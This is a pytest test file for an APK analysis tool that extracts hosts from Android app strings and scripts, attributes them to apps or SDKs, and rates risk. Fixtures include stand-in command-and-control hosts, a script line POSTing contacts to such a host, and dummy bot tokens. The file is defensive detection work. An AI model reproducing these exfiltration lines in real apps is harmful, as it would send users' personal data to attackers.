"""The generic rules behind APK endpoints and risk, on strings and results made here: what is
a host, what is an identifier, whose a host is, and which facts raise the risk."""

from __future__ import annotations

from typing import Any

import pytest

from ringtrace.apk.endpoints import HIGH, LOW, Collector, Sighting, find_hits, not_a_host
from ringtrace.apk.risk import rate
from ringtrace.apk.thirdparty import builtin


@pytest.mark.parametrize(
    ("text", "host", "whole"),
    [
        ("http://info.ku6.cn/clientRequest.htm?method=update", "info.ku6.cn", True),
        ("https://adm1n:passw0rd@dev.victim.com", "dev.victim.com", True),
        ("ws://push.chat-priv.top:9001/ws", "push.chat-priv.top", True),
        ("Register yourself at http://payatu.com to get your PIN", "payatu.com", False),
        ("手机酷6:www.ku6.cn", "www.ku6.cn", False),
        ("gate.ring-c2.top", "gate.ring-c2.top", True),
        ("file.ring-c2.top:7000", "file.ring-c2.top", True),
        ("203.0.113.50", "203.0.113.50", True),
    ],
)
def test_hosts_are_found(text: str, host: str, whole: bool) -> None:
    [hit] = find_hits(text)
    assert (hit.host, hit.whole) == (host, whole)
    assert not_a_host(text) is None or hit.url is not None


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("R.java", "source_file"),
        ("mainactivity.java", "source_file"),
        ("AbstractCollection.kt", "source_file"),
        ("libc.so", "native_library"),
        ("libfrida-check.so", "native_library"),
        ("libssl.so.1.1", "native_library"),
        ("android.intent.extra.EMAIL", "identifier"),
        ("android.media.metadata.AUTHOR", "identifier"),
        ("CharMatcher.is", "identifier"),
        ("s.properties", "file_name"),
        ("divanotes.db", "file_name"),
        ("os.name", "property_or_package"),
        ("ro.build.version.sdk", "property_or_package"),
        ("com.whatsapp", "property_or_package"),
        ("cn.google", "property_or_package"),
    ],
)
def test_identifiers_are_not_hosts(text: str, kind: str) -> None:
    assert not_a_host(text) == kind


def test_whose_host() -> None:
    tp = builtin()
    assert tp.host("damn-vulnerable-bank.firebaseio.com").value == (
        "damn-vulnerable-bank.firebaseio.com"
    )
    assert tp.host("firebaseio.com").kind == "third_party"
    assert tp.host("eu.api.ring.herokuapp.com").value == "ring.herokuapp.com"
    assert tp.host("graph.facebook.com").service == "Facebook SDK"
    assert tp.host("android.googlesource.com").kind == "third_party"
    assert tp.host("gate.chat-priv.top").kind == "app"
    # A connectivity check against a public resolver is everybody's, not a server.
    assert (
        tp.host("8.8.8.8").kind == "third_party" and tp.host("pool.ntp.org").kind == "third_party"
    )
    out = Collector()
    [hit] = find_hits("1.1.1.1")
    out.add(hit, Sighting("classes.dex", "network", HIGH, "Lcom/ring/Net;->online"))
    [e], _ = out.results()
    assert (e["type"], e["owner"], e["link_key"]) == ("ip", "third_party", False)
    assert tp.code("Lcom/google/firebase/database/FirebaseDatabase;") == "Firebase"
    assert tp.code("Lcom/privatechat/app/Uploader;") is None


def test_a_host_once_seen_in_sdk_code_stays_third_party() -> None:
    out = Collector()
    [hit] = find_hits("https://t.sdk-metrics.io/v1/collect")
    out.add(hit, Sighting("classes.dex", "network", HIGH, "Lcom/appsflyer/A;->b", sdk="X"))
    out.add(hit, Sighting("classes.dex", "network", HIGH, "Lcom/ring/App;->c"))
    [e], _ = out.results()
    assert e["owner"] == "third_party" and not e["link_key"]
    [hit] = find_hits("gate.ring-c2.top")
    out.add(hit, Sighting("classes.dex", "string", LOW, "Lcom/ring/App;->d"))
    e = next(x for x in out.results()[0] if x["value"] == "ring-c2.top")
    assert not e["link_key"] and "low confidence" in e["why_not_linked"]


def _result(behaviours: list[dict[str, Any]], **over: Any) -> dict[str, Any]:
    r: dict[str, Any] = {"package": "com.example.app", "label": "Example", "signed": True,
                         "packer_signs": [], "endpoints": [], "behaviours": behaviours}  # fmt: skip
    r.update(over)
    return r


def _b(bid: str, *evidence: dict[str, Any]) -> dict[str, Any]:
    return {"id": bid, "title": bid.replace("_", " "), "evidence": list(evidence)}


APP = {"method": "Lcom/example/app/Main;->run", "call": "x", "offset": 0}
SDK = {**APP, "sdk": "Open-source libraries"}


def test_permissions_and_sdk_code_alone_are_low() -> None:
    r = _result([_b("reads_location", SDK), _b("accessibility_abuse", SDK),
                 _b("uploads_http", SDK)])  # fmt: skip
    assert rate(r)["level"] == "low"


def test_what_raises_the_level() -> None:
    capture = _result([_b("records_audio", APP), _b("uploads_http", APP)])
    assert rate(capture)["level"] == "high"
    assert rate(capture)["drivers"][0]["behaviours"] == ["records_audio", "uploads_http"]
    listens = _result([_b("accessibility_abuse", {"manifest": "service S requires BIND_A"})])
    assert rate(listens)["level"] == "medium"
    drives = _result([_b("accessibility_abuse", {"manifest": "service S requires BIND_A"}, APP)])
    assert rate(drives)["level"] == "high"
    assert rate(_result([], package="com.whatsapp"))["level"] == "high"
    assert rate(_result([], package="com.google.android.update"))["level"] == "high"
    assert rate(_result([], label="WhatsApp"))["level"] == "medium"
    chain = _b("sms_exfiltration", {"method": "m", "chain": ["m"]})
    theft = _result([chain, _b("reads_sms", APP), _b("uploads_http", APP), _b("hides_icon", APP)])
    rated = rate(theft)
    assert rated["level"] == "critical"
    assert "hides its launcher icon and takes personal data" in rated["reasons"]
    assert rate(_result([], signed=False))["level"] == "medium"


def test_script_assets_count_only_urls_handed_to_a_network_call() -> None:
    from ringtrace.apk.endpoints import NOTICE_ASSET, scan_script

    bundle = (
        'var docs = "https://reactnative.dev/docs/network";'
        'fetch("https://api.ring-c2.top/v1/contacts", {method: "POST"});'
        "axios.post(`https://up.ring-c2.top/u`, body);"
        'const ws = new WebSocket("wss://push.ring-c2.top/s");'
    )
    out = Collector()
    scan_script(bundle, "assets/index.android.bundle", out)
    found = {e["value"]: e for e in out.results()[0]}
    ring = found["ring-c2.top"]
    assert ring["link_key"] and ring["usage"] == "network"
    assert {u["url"] for u in ring["urls"]} == {
        "https://api.ring-c2.top/v1/contacts", "https://up.ring-c2.top/u",
        "wss://push.ring-c2.top/s",
    }  # fmt: skip
    assert not found["reactnative.dev"]["link_key"]  # a library's documentation link
    for name in ("third_party_licenses.json", "LICENSE.txt", "oss_licenses.html", "NOTICE"):
        assert NOTICE_ASSET.search(name)
    assert not NOTICE_ASSET.search("config.json")


def test_config_assets_link_servers_not_metadata_or_lookup_templates() -> None:
    """In a configuration asset, a value under a key that names a server links (a template
    included); the file's metadata and a run-time lookup template under some other key are
    plain strings (an input method's dictionary links, an author's site)."""
    from ringtrace.apk.endpoints import scan_config

    yaml = (
        "author: keyboard-maker.top\n"
        "homepage: https://keyboard-maker.top/\n"
        '  Lookup2: {label: dictionary, option: "https://dict-lookup.top/search?q=%1$s"}\n'
        'apiBaseUrl: "https://gate.ring-c2.top/v2/"\n'
        'c2_upload: "https://up.ring-c2.top/u?id=%s"\n'
        "panel = http://panel.ring-c3.top:8080/p\n"
    )
    out = Collector()
    scan_config(yaml, "assets/app.yaml", out)
    found = {e["value"]: e for e in out.results()[0]}
    assert found["ring-c2.top"]["link_key"]
    assert {u["url"] for u in found["ring-c2.top"]["urls"]} >= {
        "https://gate.ring-c2.top/v2/", "https://up.ring-c2.top/u?id=%s",
    }  # fmt: skip
    assert found["ring-c3.top"]["link_key"]
    for other in ("keyboard-maker.top", "dict-lookup.top"):
        assert other not in found or not found[other]["link_key"], other


def test_messaging_bots_keep_only_their_number() -> None:
    out = Collector()
    out.bots("https://api.telegram.org/bot6123456789:AAFixtureOnlyNotARealBotToken_01234/send",
             "classes.dex", "Lcom/ring/Bot;->send")  # fmt: skip
    out.bots("https://discord.com/api/webhooks/112233445566778899/secret-part", "assets/c.json")
    out.bots("version 1234567890:AB not a token", "classes.dex")
    assert sorted(out.accounts) == ["discord-webhook:112233445566778899", "telegram-bot:6123456789"]
    assert "secret-part" not in repr(out.accounts) and "NotARealBot" not in repr(out.accounts)
